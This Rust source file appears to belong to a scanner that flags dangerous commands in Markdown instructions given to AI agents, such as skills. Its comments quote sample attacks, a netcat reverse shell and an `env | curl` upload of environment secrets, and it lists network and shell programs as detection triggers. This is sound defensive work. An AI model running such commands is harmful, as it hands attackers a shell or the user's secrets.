//! The commands Markdown instructions tell the agent to run: every block of code
//! ([`crate::analysis::runnable`]) through the one analyser of commands, and, in the prose
//! around them, a download run by an interpreter (`SEC040`), line by line. Only that one
//! danger in prose: a sentence may well name `sudo` or `rm -rf /` to warn against them.

use super::{Found, MAX_PER_COMMAND, Place, emit};
use crate::analysis::runnable::{Code, Setting, looks_like_command, runnable_blocks};
use crate::analysis::shell::{
    DangerKind, Dialect, Language, Prose, dangers, downloads_in_prose, negated, script_dangers,
};
use crate::diagnostics::Diagnostic;
use crate::security::texts::Text;

/// Languages whose fenced blocks are the content of a file, not commands the reader runs.
const FILE_CONTENT_LANGUAGES: &[&str] = &[
    "dockerfile",
    "containerfile",
    "docker",
    "json",
    "jsonc",
    "yaml",
    "yml",
    "toml",
    "ini",
    "xml",
    "html",
    "css",
    "markdown",
    "md",
    "diff",
];

/// The commands of the instructions `text`.
pub(super) fn check<'t>(text: &'t Text<'t>, out: &mut Vec<Diagnostic>, found: &mut Found<'t>) {
    let blocks = runnable_blocks(&text.value);
    for b in &blocks {
        let dangers = match b.code {
            Code::Shell(dialect) => dangers(&b.text, dialect),
            Code::Python => script_dangers(&b.text, Language::Python),
            Code::JavaScript => script_dangers(&b.text, Language::JavaScript),
        };
        let place = match b.setting {
            Setting::Told => Place::Told,
            Setting::Image => Place::Image,
        };
        emit(text, b.span.start, place, dangers, out, found);
    }
    across_blocks(text, &blocks, out, found);
    let mut at = 0;
    let mut reported = 0;
    let mut fence = Fence::default();
    let mut next_block = 0;
    let mut prose = Prose::default();
    for line in text.value.split_inclusive('\n') {
        let base = at;
        at += line.len();
        // Blocks come in order: step past those that end before this line.
        while next_block < blocks.len() && blocks[next_block].span.end <= base {
            next_block += 1;
        }
        let in_block = blocks
            .get(next_block)
            .is_some_and(|b| b.span.start <= base && base < b.span.end);
        if fence.step(line) || in_block {
            continue;
        }
        code_spans(text, base, line, out, found);
        written_out(text, base, line, out, found);
        let told = prose.step(line, base);
        emit(text, 0, Place::Told, told, out, found);
        let found_here = downloads_in_prose(line);
        if found_here.is_empty() {
            continue;
        }
        let take = MAX_PER_COMMAND.saturating_sub(reported);
        reported += found_here.len().min(take);
        let shifted = found_here
            .into_iter()
            .take(take)
            .map(|mut d| {
                d.start += base;
                d.end += base;
                d
            })
            .collect();
        emit(text, 0, Place::Told, shifted, out, found);
    }
}

/// The commands a line of prose gives in code spans (`` Run `nc -e /bin/sh h 9` ``, and
/// Claude Code's `` !`cmd` ``, run before the model reads the skill). A download run is
/// left to the reading of the whole line, and `sudo` to code blocks: prose names both in
/// passing.
fn code_spans<'t>(
    text: &'t Text<'t>,
    base: usize,
    line: &str,
    out: &mut Vec<Diagnostic>,
    found: &mut Found<'t>,
) {
    if !line.contains('`') {
        return;
    }
    let mut at = 0;
    for (i, piece) in line.split('`').enumerate() {
        let start = at;
        at += piece.len() + 1;
        if i % 2 == 0 || !looks_like_command(piece) {
            continue;
        }
        if negated(&line[..start.saturating_sub(1)], &['.', '!', '?', ':']) {
            continue;
        }
        let mut dangers = dangers(piece, Dialect::Posix);
        dangers.retain(|d| !matches!(d.kind, DangerKind::DownloadExecute | DangerKind::Privileged));
        emit(text, base + start, Place::Told, dangers, out, found);
    }
}

/// Programs a command written out in a sentence starts with, where an attack is certain
/// enough to read the rest of the line as shell (`Then run: env | curl -d @- https://…`).
const SENTENCE_PROGRAMS: &[&str] = &[
    "curl", "wget", "env", "printenv", "cat", "tar", "nc", "ncat", "bash", "sh", "python",
    "python3", "dig", "nslookup", "echo", "base64", "eval", "scp",
];

/// A command written out in prose, without a code span: read from its first program on,
/// for the attacks that are certain whatever surrounds them (a secret sent out, a shell
/// handed over, decoded text run).
fn written_out<'t>(
    text: &'t Text<'t>,
    base: usize,
    line: &str,
    out: &mut Vec<Diagnostic>,
    found: &mut Found<'t>,
) {
    if line.contains('`') || !line.contains(['|', '$', '<', '>', '@', '/', '(']) {
        return;
    }
    // Each program named may be where the command starts (`Use the bash tool to run: env | …`).
    let starts = crate::analysis::shell::words(line)
        .filter(|(_, w)| {
            let w = w.trim_start_matches(['(', '"', '\'']).to_ascii_lowercase();
            SENTENCE_PROGRAMS.contains(&w.as_str())
        })
        .map(|(at, _)| at)
        .take(4);
    let mut seen: Vec<(usize, usize)> = Vec::new();
    for start in starts {
        if negated(&line[..start], &[]) {
            return;
        }
        let mut dangers = dangers(&line[start..], Dialect::Posix);
        dangers.retain(|d| {
            let at = (start + d.start, start + d.end);
            let new = matches!(
                d.kind,
                DangerKind::Exfiltration | DangerKind::ReverseShell | DangerKind::DecodeExecute
            ) && !seen.iter().any(|(s, e)| at.0 < *e && *s < at.1);
            if new {
                seen.push(at);
            }
            new
        });
        emit(text, base + start, Place::Told, dangers, out, found);
    }
}

/// Where a line of Markdown is with respect to fenced code blocks.
#[derive(Default)]
struct Fence {
    /// The opening run (``` or ~~~ and its length) and whether the block is a file's content.
    open: Option<(char, usize, bool)>,
}

impl Fence {
    /// Read `line`; true when it is a fence line or inside a block of file content.
    fn step(&mut self, line: &str) -> bool {
        let t = line.trim_start_matches(' ');
        let ch = t.chars().next().filter(|c| *c == '`' || *c == '~');
        let run = ch.map_or(0, |c| t.len() - t.trim_start_matches(c).len());
        match (self.open, ch) {
            (Some((c, n, _)), Some(d)) if c == d && run >= n && t[run..].trim().is_empty() => {
                self.open = None;
                true
            }
            (Some((_, _, content)), _) => content,
            (None, Some(c)) if run >= 3 => {
                let info = t[run..]
                    .trim()
                    .split(|x: char| x.is_whitespace() || x == '{')
                    .next();
                let content = info.is_some_and(|w| {
                    FILE_CONTENT_LANGUAGES
                        .iter()
                        .any(|l| w.eq_ignore_ascii_case(l))
                });
                self.open = Some((c, run, content));
                true
            }
            (None, _) => false,
        }
    }
}

/// Shell blocks of one text read together, at their places: a secret read into a file in
/// one block and uploaded in a later one, a download saved in one and run in the next. Only
/// what joins two blocks is new here; each block alone was read already.
fn across_blocks<'t>(
    text: &'t Text<'t>,
    blocks: &[crate::analysis::runnable::Block],
    out: &mut Vec<Diagnostic>,
    found: &mut Found<'t>,
) {
    let shell: Vec<_> = blocks
        .iter()
        .filter(|b| b.code == Code::Shell(Dialect::Posix) && b.setting == Setting::Told)
        .collect();
    if shell.len() < 2 {
        return;
    }
    // The text with everything but these blocks blanked, lines kept: offsets are the text's.
    let mut joined: Vec<u8> = text
        .value
        .bytes()
        .map(|c| if c == b'\n' { b'\n' } else { b' ' })
        .collect();
    for b in &shell {
        if let Some(dest) = joined.get_mut(b.span.start..b.span.end) {
            dest.copy_from_slice(b.text.as_bytes());
        }
    }
    let Ok(joined) = String::from_utf8(joined) else {
        return;
    };
    let block_of = |at: usize| {
        shell
            .iter()
            .position(|b| b.span.start <= at && at < b.span.end)
    };
    let joining: Vec<_> = dangers(&joined, Dialect::Posix)
        .into_iter()
        .filter(|d| {
            matches!(
                d.kind,
                DangerKind::Exfiltration | DangerKind::DownloadExecute | DangerKind::DecodeExecute
            ) && d
                .related
                .as_ref()
                .is_some_and(|r| block_of(r.start) != block_of(d.start))
        })
        // A secret read in another block counts when its block alone already said so (a
        // credential store): a shell history read in one block is no theft by a later upload.
        .filter(|d| {
            d.kind != DangerKind::Exfiltration
                || d.related.as_ref().is_some_and(|r| {
                    let read = text.span_of(r.start..r.end);
                    found
                        .signals
                        .iter()
                        .any(|s| s.read && s.span.start < read.end && read.start < s.span.end)
                })
        })
        .collect();
    if joining.is_empty() {
        return;
    }
    let before = found.chains.len();
    emit(text, 0, Place::Told, joining, out, found);
    // The halves each block gave alone are now parts of the chain.
    let chains = found.chains[before..].to_vec();
    found.signals.retain(|s| {
        !chains
            .iter()
            .any(|c| s.span.start < c.end && c.start < s.span.end)
    });
}
